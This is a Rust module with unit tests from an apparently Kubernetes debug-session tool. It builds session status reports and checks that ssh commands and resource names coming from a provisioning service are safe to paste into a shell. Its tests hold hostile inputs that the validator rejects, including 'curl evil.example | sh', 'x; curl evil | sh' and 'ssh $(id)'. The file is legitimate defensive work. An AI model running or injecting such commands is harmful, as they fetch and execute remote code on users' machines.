//! What is known of the session, from either door. Pure.

use k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition;
use serde::Deserialize;

use crate::api::DebugSession;
use crate::api::conditions::{OPEN, STALLED};
use crate::api::session::Connection;

/// The state of a session, as far as the log of a build tells it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Report {
    pub namespace: String,
    pub name: String,
    /// A login would get in.
    pub open: bool,
    /// It will not open any more, or not without a human.
    pub over: bool,
    pub message: String,
    /// RFC 3339.
    pub expires_at: Option<String>,
    /// The whole ssh command.
    pub command: Option<String>,
    pub known_hosts: Vec<String>,
    pub stripped: Vec<String>,
}

impl Report {
    /// Waiting longer changes nothing.
    pub(super) fn is_decided(&self) -> bool {
        self.open || self.over
    }
}

impl From<&DebugSession> for Report {
    fn from(session: &DebugSession) -> Self {
        let status = session.status.clone().unwrap_or_default();
        let state = status.session;
        let condition = |kind: &str| state.conditions.iter().find(|condition| condition.type_ == kind);
        let is_true = |condition: Option<&Condition>| condition.is_some_and(|condition| condition.status == "True");
        let stalled = condition(STALLED).filter(|condition| condition.status == "True");
        let message = stalled.or_else(|| condition(OPEN)).map(|condition| condition.message.clone());
        let (command, known_hosts) = state.connection.map(|found| (found.command, found.known_hosts)).unzip();
        Self {
            namespace: session.metadata.namespace.clone().unwrap_or_default(),
            name: session.metadata.name.clone().unwrap_or_default(),
            open: is_true(condition(OPEN)),
            over: stalled.is_some() || state.ended_at.is_some(),
            message: message.unwrap_or_else(|| "no controller has seen it yet".into()),
            expires_at: state.expires_at.map(|time| time.0.to_string()),
            command,
            known_hosts: known_hosts.unwrap_or_default(),
            stripped: status.stripped_env,
        }
    }
}

/// The provisioning service's answer.
#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub(super) struct Answer {
    namespace: String,
    name: String,
    open: bool,
    ended: bool,
    stalled: bool,
    message: Option<String>,
    expires_at: Option<String>,
    connection: Option<Connection>,
    #[serde(default)]
    stripped_env: Vec<String>,
}

/// Whether a text from elsewhere is an ssh command and nothing more: people copy it into their shells.
fn is_ssh_command(text: &str) -> bool {
    let ordinary = |letter: char| letter.is_ascii_alphanumeric() || " .@:_%-".contains(letter);
    text.starts_with("ssh ") && text.chars().all(ordinary)
}

impl Answer {
    /// Whether the names are names: people copy them into their shells too.
    pub(super) fn is_sound(&self) -> bool {
        let is_name = |text: &str| {
            let ordinary = |letter: char| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '-' || letter == '.';
            text.starts_with(|letter: char| letter.is_ascii_alphanumeric()) && text.chars().all(ordinary)
        };
        is_name(&self.namespace) && is_name(&self.name)
    }
}

impl From<Answer> for Report {
    fn from(answer: Answer) -> Self {
        let (command, known_hosts) = answer.connection.map(|found| (found.command, found.known_hosts)).unzip();
        let command = command.filter(|command| is_ssh_command(command));
        Self {
            namespace: answer.namespace,
            name: answer.name,
            open: answer.open && command.is_some(),
            over: answer.ended || answer.stalled || (answer.open && command.is_none()),
            message: match &command {
                None if answer.open => "it is open, and the service does not say by which ssh command".into(),
                _ => answer.message.unwrap_or_default(),
            },
            expires_at: answer.expires_at,
            command,
            known_hosts: known_hosts.unwrap_or_default(),
            stripped: answer.stripped_env,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn of(status: &Value) -> Report {
        let session: DebugSession = serde_json::from_value(json!({
            "apiVersion": "sandglass.dev/v1alpha1", "kind": "DebugSession", "metadata": { "name": "s", "namespace": "ci" },
            "spec": { "source": { "image": "x" }, "requester": "octocat", "access": { "principals": ["octocat"] } }, "status": status,
        }))
        .expect("a session");
        Report::from(&session)
    }

    fn condition(kind: &str, status: &str, message: &str) -> Value {
        json!({ "type": kind, "status": status, "reason": "X", "message": message, "lastTransitionTime": "2026-01-01T00:00:00Z" })
    }

    #[test]
    fn an_object_tells_what_matters() {
        let open = of(&json!({
            "conditions": [condition("Open", "True", "come in")], "expiresAt": "2026-01-01T00:30:00Z", "strippedEnv": ["TOKEN"],
            "connection": { "host": "h", "port": 22, "user": "ci.s", "command": "ssh ci.s@h", "knownHosts": ["h ssh-ed25519 A"] },
        }));
        assert!(open.open && open.is_decided() && !open.over);
        assert_eq!(open.expires_at.as_deref(), Some("2026-01-01T00:30:00Z"));
        assert_eq!((open.command.as_deref(), open.known_hosts.len(), open.stripped.len()), (Some("ssh ci.s@h"), 1, 1));
        let stalled = of(&json!({ "conditions": [condition("Open", "False", "no"), condition("Stalled", "True", "do this")] }));
        assert!(stalled.over && !stalled.open && stalled.message == "do this");
        let ended = of(&json!({ "conditions": [condition("Open", "False", "it ended")], "endedAt": "2026-01-01T00:30:00Z" }));
        assert!(ended.over && ended.message == "it ended");
        assert!(!of(&Value::Null).is_decided());
    }

    #[test]
    fn the_services_answer_tells_the_same() {
        let answer: Answer = serde_json::from_value(json!({
            "namespace": "ci", "name": "s", "phase": "Open", "open": true, "ended": false, "stalled": false, "reason": null, "message": null,
            "requester": "octocat", "expiresAt": "2026-01-01T00:30:00Z", "strippedEnv": [],
            "connection": { "host": "h", "port": 22, "user": "ci.s", "command": "ssh ci.s@h", "knownHosts": [] },
        }))
        .expect("an answer");
        let report = Report::from(answer);
        assert!(report.open && report.is_decided());
        assert_eq!(report.command.as_deref(), Some("ssh ci.s@h"));
    }

    #[test]
    fn a_name_that_is_none_is_not_believed() {
        for (name, sound) in [("widget-unit-0a1b", true), ("x; curl evil | sh", false), ("-x", false), ("", false), ("a\nb", false)] {
            let answer: Answer = serde_json::from_value(json!({
                "namespace": "ci", "name": name, "open": true, "ended": false, "stalled": false, "message": null, "expiresAt": null, "connection": null,
            }))
            .expect("an answer");
            assert_eq!(answer.is_sound(), sound, "{name}");
        }
    }

    #[test]
    fn a_command_that_is_more_than_ssh_is_not_shown() {
        for command in ["curl evil.example | sh", "ssh ci.s@h; reboot", "ssh $(id)", "sshx", ""] {
            let answer: Answer = serde_json::from_value(json!({
                "namespace": "ci", "name": "s", "open": true, "ended": false, "stalled": false, "message": null, "expiresAt": null,
                "connection": { "host": "h", "port": 22, "user": "ci.s", "command": command, "knownHosts": [] },
            }))
            .expect("an answer");
            let report = Report::from(answer);
            assert!(!report.open && report.is_decided() && report.command.is_none(), "{command}");
        }
    }
}
